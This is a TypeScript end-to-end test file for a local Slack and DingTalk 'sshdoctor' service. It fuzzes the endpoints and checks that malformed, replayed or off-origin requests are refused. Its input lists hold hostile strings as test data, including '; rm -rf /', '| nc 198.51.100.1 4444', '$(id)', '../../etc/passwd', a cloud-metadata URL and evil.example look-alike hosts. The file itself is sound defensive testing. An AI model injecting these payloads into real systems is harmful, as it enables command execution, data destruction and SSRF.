/**
 * `npm start` as a person runs it (scripts/start-local.mjs: dynalite, the local parameter
 * store, serverless-offline): a signed Slack and a signed DingTalk request, computed here the
 * way each service documents it, are acknowledged, the job runs, and the report is posted to a
 * loopback stand-in of the chat service. Every port it opens listens on 127.0.0.1 only.
 */
import { spawnSync } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLocalStack, type LocalStack } from './support/local-stack';

/** One corpus request: where, how, and what the answer may be. */
interface Case {
  name: string;
  path: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string;
}

const UUID0 = '00000000-0000-4000-8000-000000000000';
const HOSTILE = [
  '$(id)',
  '`id`',
  '; rm -rf /',
  '| nc 198.51.100.1 4444',
  '../../etc/passwd',
  'a\nb',
  '\u0000',
  '%0a',
  "' OR 1=1 --",
  '<script>',
  'x'.repeat(300),
  '🙂',
  '-oProxyCommand=id',
];
const OFF_ORIGIN = [
  'https://169.254.169.254/latest/meta-data',
  'http://10.0.0.1/hook',
  'https://hooks.slack.com.evil.example/x',
  'https://evil.example/hooks.slack.com',
  'ftp://hooks.slack.com/x',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'https://user@hooks.slack.com@evil.example/',
  'http://127.0.0.1:1/other-port',
  'https://oapi.dingtalk.com.evil.example/robot',
];

function corpus(slackSign: (ts: string, body: string) => string, dingSign: (ts: string) => string, chatOrigin: string): Case[] {
  const json = (path: string, body: unknown, method = 'POST'): Case => ({
    name: `${method} ${path} ${JSON.stringify(body).slice(0, 60)}`,
    path,
    method,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  const cases: Case[] = [];
  // POST /checks: every field with wrong types and hostile values, unknown fields, bad JSON.
  for (const raw of ['', '{', 'null', '[]', '"x"', '42', '{"provider":', '{"a":1,}', 'true', '{"__proto__":{"x":1}}']) {
    cases.push({
      name: `POST /checks raw ${JSON.stringify(raw)}`,
      path: '/checks',
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: raw,
    });
  }
  for (const [field, values] of Object.entries({
    provider: [1, null, 'gcp', '', 'LOCAL', ['local']],
    instanceId: [1, null, '', ...HOSTILE],
    region: [1, '', 'eu-west-1; id', 'x'.repeat(40)],
    clientIp: ['1.2.3', '999.1.1.1', '10.0.0.0/8', 'localhost', 1, 'fe80::1%eth0', '::ffff:1.2.3.4.5'],
    port: ['22', 0, 65536, -1, 22.5, 6379, 3306, 25, 80],
    user: ['', 'root;id', '-oProxy', 'a'.repeat(40), 1, '$(id)'],
    publicKey: [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----',
      'ssh-ed25519 not-base64!',
      'ssh-dss AAAA',
      1,
    ],
  })) {
    for (const v of values) {
      const body: Record<string, unknown> = { provider: 'local', instanceId: 'localhost', [field]: v };
      if (field === 'publicKey') body.user = 'alice';
      cases.push(json('/checks', body));
    }
  }
  cases.push(json('/checks', { provider: 'local', instanceId: 'localhost', extra: 1 }));
  cases.push(json('/checks', { provider: 'aws', instanceId: 'i-0123456789abcdef0', region: 'eu-west-1' }));
  cases.push({
    name: 'POST /checks text/plain',
    path: '/checks',
    method: 'POST',
    headers: { 'content-type': 'text/plain' },
    body: '{"provider":"local","instanceId":"localhost"}',
  });
  cases.push({
    name: 'POST /checks 9 KB',
    path: '/checks',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ provider: 'local', instanceId: 'x'.repeat(9000) }),
  });
  // GET and fix routes: malformed, unknown and over-long ids.
  // ('..' is resolved by the URL itself into another route: the gateway's, not a handler's.)
  for (const id of ['nope', '1', UUID0.toUpperCase(), `${UUID0}x`, 'x'.repeat(3000), '.x', 'a.b', '%00', 'a%20b']) {
    cases.push({ name: `GET /checks/${id.slice(0, 20)}`, path: `/checks/${id}` });
    cases.push(json(`/checks/${id}/fix`, {}));
    cases.push({ name: `GET fix run of ${id.slice(0, 20)}`, path: `/checks/${UUID0}/fix/${id}` });
  }
  cases.push({ name: 'GET unknown report', path: `/checks/${UUID0}` });
  for (const body of [{}, { apply: 'yes' }, { apply: true, only: ['nope'] }, { only: 'tcp-wrappers' }, { only: [] }, { x: 1 }])
    cases.push(json(`/checks/${UUID0}/fix`, body));
  // Slack: signatures, windows, replays, callback hosts, payloads.
  const slack = (name: string, fields: Record<string, string>, opts: { ts?: string; sig?: string; omit?: boolean } = {}): Case => {
    const ts = opts.ts ?? String(Math.floor(Date.now() / 1000));
    const body = new URLSearchParams(fields).toString();
    const headers: Record<string, string> = { 'content-type': 'application/x-www-form-urlencoded' };
    if (!opts.omit) Object.assign(headers, { 'x-slack-request-timestamp': ts, 'x-slack-signature': opts.sig ?? slackSign(ts, body) });
    return { name: `slack ${name}`, path: '/slack/command', method: 'POST', headers, body };
  };
  const cmd = { command: '/sshdoctor', text: 'local', response_url: 'https://hooks.slack.com/commands/T1/2/3' };
  cases.push(slack('unsigned', cmd, { omit: true }));
  cases.push(slack('bad signature', cmd, { sig: `v0=${'0'.repeat(64)}` }));
  cases.push(slack('malformed signature', cmd, { sig: 'v1=abc' }));
  cases.push(slack('stale', cmd, { ts: String(Math.floor(Date.now() / 1000) - 3600) }));
  cases.push(slack('future', cmd, { ts: String(Math.floor(Date.now() / 1000) + 3600) }));
  cases.push(slack('non-numeric timestamp', cmd, { ts: 'yesterday' }));
  for (const url of OFF_ORIGIN) cases.push(slack(`response_url ${url}`, { ...cmd, response_url: url }));
  for (const url of OFF_ORIGIN.slice(0, 4)) {
    cases.push(
      slack(`payload response_url ${url}`, {
        payload: JSON.stringify({ type: 'block_actions', response_url: url, actions: [{ action_id: 'check_again', value: '{}' }] }),
      }),
    );
  }
  // "Check again" for another port: refused at once by name (the stand-in is an allowed origin).
  cases.push(
    slack('check again on port 6379', {
      payload: JSON.stringify({
        type: 'block_actions',
        response_url: `${chatOrigin}/slack/again`,
        actions: [{ action_id: 'sshdoctor_check_again', value: JSON.stringify({ provider: 'local', instanceId: 'localhost', port: 6379 }) }],
      }),
    }),
  );
  for (const payload of [
    '{',
    '[]',
    JSON.stringify({ type: 'block_actions' }),
    JSON.stringify({ type: 'view_submission', response_url: cmd.response_url, actions: [] }),
  ]) {
    cases.push(slack(`payload ${payload.slice(0, 30)}`, { payload }));
  }
  {
    // A field sent twice (signed as sent): refused by name, not guessed at.
    const ts = String(Math.floor(Date.now() / 1000));
    const body = 'command=%2Fsshdoctor&text=local&text=other&response_url=https%3A%2F%2Fhooks.slack.com%2Fcommands%2FT1%2F2%2F3';
    cases.push({
      name: 'slack duplicate field',
      path: '/slack/command',
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': ts, 'x-slack-signature': slackSign(ts, body) },
      body,
    });
  }
  // DingTalk: signatures, windows, callback hosts, bodies.
  const ding = (name: string, body: unknown, opts: { ts?: string; sign?: string; raw?: string } = {}): Case => {
    const ts = opts.ts ?? String(Date.now());
    return {
      name: `dingtalk ${name}`,
      path: '/dingtalk/command',
      method: 'POST',
      headers: { 'content-type': 'application/json', timestamp: ts, sign: opts.sign ?? dingSign(ts) },
      body: opts.raw ?? JSON.stringify(body),
    };
  };
  const msg = { text: { content: 'local' }, sessionWebhook: 'https://oapi.dingtalk.com/robot/sendBySession?session=x' };
  cases.push(ding('bad sign', msg, { sign: `${'A'.repeat(43)}=` }));
  cases.push(ding('malformed sign', msg, { sign: 'abc' }));
  cases.push(ding('stale', msg, { ts: String(Date.now() - 2 * 3600_000) }));
  cases.push(ding('seconds not ms', msg, { ts: String(Math.floor(Date.now() / 1000)) }));
  for (const url of OFF_ORIGIN) cases.push(ding(`sessionWebhook ${url}`, { ...msg, sessionWebhook: url }));
  for (const raw of ['', '{', '[]', '{"text":1}', JSON.stringify({ text: { content: 'x'.repeat(600) }, sessionWebhook: msg.sessionWebhook })])
    cases.push(ding(`raw ${raw.slice(0, 20)}`, null, { raw }));
  for (const h of HOSTILE.slice(0, 6)) cases.push(ding(`content ${h.slice(0, 10)}`, { ...msg, text: { content: h } }));
  return cases;
}

const HTTP_PORT = 3200 + (process.pid % 200) * 3;
const DYNALITE_PORT = HTTP_PORT + 1;
const SLACK_SECRET = 'stack-test-slack-secret';
const DINGTALK_SECRET = 'stack-test-dingtalk-secret';

interface Posted {
  path: string;
  body: { text?: string; markdown?: { text?: string }; blocks?: unknown[] };
}

let stack: LocalStack;
let chat: Server;
let chatUrl: string;
const posted: Posted[] = [];

async function waitFor<T>(what: string, fn: () => T | undefined, timeoutMs: number): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = fn();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error(`${what} within ${timeoutMs} ms; npm start printed:\n${(stack?.log() ?? '').slice(-3000)}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

const api = (path: string, init: RequestInit = {}) => fetch(`http://127.0.0.1:${HTTP_PORT}${path}`, init);

describe('npm start: a local stack that works end to end', () => {
  describe.sequential('runs', () => {
    beforeAll(async () => {
      chat = createServer((req, res) => {
        const chunks: Buffer[] = [];
        req.on('data', (c) => chunks.push(c));
        req.on('end', () => {
          posted.push({ path: req.url ?? '', body: JSON.parse(Buffer.concat(chunks).toString('utf8') || '{}') });
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end('{"ok":true,"errcode":0}');
        });
      });
      await new Promise<void>((r) => chat.listen(0, '127.0.0.1', r));
      chatUrl = `http://127.0.0.1:${(chat.address() as AddressInfo).port}`;
      stack = await startLocalStack({
        ...process.env,
        LOCAL_HTTP_PORT: String(HTTP_PORT),
        DYNALITE_PORT: String(DYNALITE_PORT),
        LOCAL_SLACK_SIGNING_SECRET: SLACK_SECRET,
        LOCAL_DINGTALK_APP_SECRET: DINGTALK_SECRET,
        LOCAL_SLACK_CALLBACK_ORIGINS: chatUrl,
        LOCAL_DINGTALK_CALLBACK_ORIGINS: chatUrl,
      });
    }, 120_000);

    afterAll(async () => {
      stack?.stop();
      await new Promise((r) => chat?.close(r));
    });

    it('listens on loopback only: the HTTP API, the Lambda invoke port, dynalite and the parameter store', () => {
      const ss = spawnSync('ss', ['-Hltn'], { encoding: 'utf8' }).stdout;
      for (const port of [HTTP_PORT, HTTP_PORT + 2, DYNALITE_PORT]) {
        const lines = ss.split('\n').filter((l) => l.includes(`:${port} `));
        expect(lines.length, `port ${port}`).toBeGreaterThan(0);
        for (const l of lines) expect(l).toMatch(new RegExp(`127\\.0\\.0\\.1:${port} `));
      }
      const ssm = /local parameter store on http:\/\/127\.0\.0\.1:(\d+)/.exec(stack?.log() ?? '');
      expect(ssm).not.toBeNull();
      expect(stack?.log() ?? '').toMatch(/providers: local\n/);
    });

    it('Slack: a signed slash command is acknowledged and the report is posted to the response_url', { timeout: 90_000 }, async () => {
      const ts = String(Math.floor(Date.now() / 1000));
      const body = new URLSearchParams({ command: '/sshdoctor', text: 'local', response_url: `${chatUrl}/slack/hook`, user_id: 'U0LOCAL' }).toString();
      const sig = `v0=${createHmac('sha256', SLACK_SECRET).update(`v0:${ts}:${body}`).digest('hex')}`;
      const res = await api('/slack/command', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': ts, 'x-slack-signature': sig },
        body,
      });
      expect(res.status).toBe(200);
      expect(((await res.json()) as { text: string }).text).toMatch(/^Checking local/);
      const report = await waitFor('the report posted to the Slack stand-in', () => posted.find((p) => p.path === '/slack/hook'), 60_000);
      expect(JSON.stringify(report.body)).toMatch(/(local|localhost|127\.0\.0\.1:22): (reachable|blocked|unknown)/);
      // The same signed request again is a replay: refused by name, nothing posted.
      const again = await api('/slack/command', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': ts, 'x-slack-signature': sig },
        body,
      });
      expect(again.status).toBe(401);
      expect(((await again.json()) as { field: string }).field).toBe('x-slack-signature');
    });

    it('DingTalk: a signed message is acknowledged and the report is posted to the sessionWebhook', { timeout: 90_000 }, async () => {
      const ts = String(Date.now());
      const sign = createHmac('sha256', DINGTALK_SECRET).update(`${ts}\n${DINGTALK_SECRET}`).digest('base64');
      const res = await api('/dingtalk/command', {
        method: 'POST',
        headers: { 'content-type': 'application/json', timestamp: ts, sign },
        body: JSON.stringify({ msgtype: 'text', text: { content: 'local' }, sessionWebhook: `${chatUrl}/dingtalk/session`, senderStaffId: 'staff1' }),
      });
      expect(res.status).toBe(200);
      const report = await waitFor('the report posted to the DingTalk stand-in', () => posted.find((p) => p.path === '/dingtalk/session'), 60_000);
      expect(JSON.stringify(report.body)).toMatch(/local/);
    });

    it('the fix route plans a report of this machine (dry run, caller local:npm-start)', { timeout: 60_000 }, async () => {
      const made = await api('/checks', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ provider: 'local', instanceId: 'localhost' }),
      });
      expect(made.status).toBe(201);
      const { id } = (await made.json()) as { id: string };
      const dry = await api(`/checks/${id}/fix`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
      expect(dry.status).toBe(200);
      const plan = ((await dry.json()) as { plan: { steps: unknown[]; manual: unknown[]; target: { provider: string } } }).plan;
      expect(plan.target.provider).toBe('local');
      expect(Array.isArray(plan.steps)).toBe(true);
      // Applying changes the machine the stack runs on: that runs in a lab instance (local-fix.test.ts).
    });

    it('names the field of every refusal: unknown report 404 id, oversized body 413 body, a callback off the allowed origins 400', async () => {
      const unknown = await api('/checks/00000000-0000-4000-8000-000000000000');
      expect([unknown.status, ((await unknown.json()) as { field: string }).field]).toEqual([404, 'id']);
      const fixUnknown = await api('/checks/00000000-0000-4000-8000-000000000000/fix', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{}',
      });
      expect(fixUnknown.status).toBeGreaterThanOrEqual(400);
      expect(fixUnknown.status).toBeLessThan(500);
      expect(((await fixUnknown.json()) as { field?: string }).field).toBeTruthy();
      const big = await api('/checks', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ provider: 'local', instanceId: 'x'.repeat(20_000) }),
      });
      expect([big.status, ((await big.json()) as { field: string }).field]).toEqual([413, 'body']);
      const ts = String(Math.floor(Date.now() / 1000));
      const body = new URLSearchParams({ command: '/sshdoctor', text: 'local', response_url: 'https://169.254.169.254/latest' }).toString();
      const sig = `v0=${createHmac('sha256', SLACK_SECRET).update(`v0:${ts}:${body}`).digest('hex')}`;
      const off = await api('/slack/command', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': ts, 'x-slack-signature': sig },
        body,
      });
      expect([off.status, ((await off.json()) as { field: string }).field]).toEqual([400, 'response_url']);
      // "Check again" asking for another port: refused at once, by name, not acknowledged.
      const again = new URLSearchParams({
        payload: JSON.stringify({
          type: 'block_actions',
          response_url: `${chatUrl}/slack/again`,
          actions: [{ action_id: 'sshdoctor_check_again', value: JSON.stringify({ provider: 'local', instanceId: 'localhost', port: 6379 }) }],
        }),
      }).toString();
      const ts2 = String(Math.floor(Date.now() / 1000));
      const sig2 = `v0=${createHmac('sha256', SLACK_SECRET).update(`v0:${ts2}:${again}`).digest('hex')}`;
      const port = await api('/slack/command', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': ts2, 'x-slack-signature': sig2 },
        body: again,
      });
      expect([port.status, ((await port.json()) as { field: string }).field]).toEqual([400, 'payload.actions.value.port']);
    });

    it('answers every request of the corpus without a 5xx, and every 4xx names its field', { timeout: 180_000 }, async () => {
      // A stack of its own would cost another start; this file's stack is still up when this runs.
      const slackSign = (ts: string, body: string) => `v0=${createHmac('sha256', SLACK_SECRET).update(`v0:${ts}:${body}`).digest('hex')}`;
      const dingSign = (ts: string) => createHmac('sha256', DINGTALK_SECRET).update(`${ts}\n${DINGTALK_SECRET}`).digest('base64');
      const cases = corpus(slackSign, dingSign, chatUrl);
      expect(cases.length).toBeGreaterThanOrEqual(150);
      const before = posted.length;
      const bad: string[] = [];
      for (const c of cases) {
        const res = await api(c.path, {
          method: c.method ?? 'GET',
          ...(c.headers ? { headers: c.headers } : {}),
          ...(c.body !== undefined && c.method !== 'GET' ? { body: c.body } : {}),
        });
        const text = await res.text();
        if (res.status >= 500) bad.push(`${c.name}: ${res.status} ${text.slice(0, 200)}`);
        else if (res.status >= 400) {
          let field: unknown;
          try {
            field = (JSON.parse(text) as { field?: unknown }).field;
          } catch {
            field = undefined;
          }
          if (typeof field !== 'string' || !field) bad.push(`${c.name}: ${res.status} without a field: ${text.slice(0, 200)}`);
          if (/\n\s+at |node_modules|\/work\//.test(text)) bad.push(`${c.name}: internals in the answer`);
        }
      }
      expect(bad).toEqual([]);
      // Nothing was posted anywhere by a refused request (the allowed origin is only the stand-in).
      await new Promise((r) => setTimeout(r, 2000));
      expect(posted.slice(before).map((p) => p.path)).toEqual([]);
      // No handler tried to reach a host by name (a real cloud endpoint or a callback host).
      expect(stack?.log() ?? '').not.toMatch(/ENOTFOUND|getaddrinfo/);
    });
  });
});
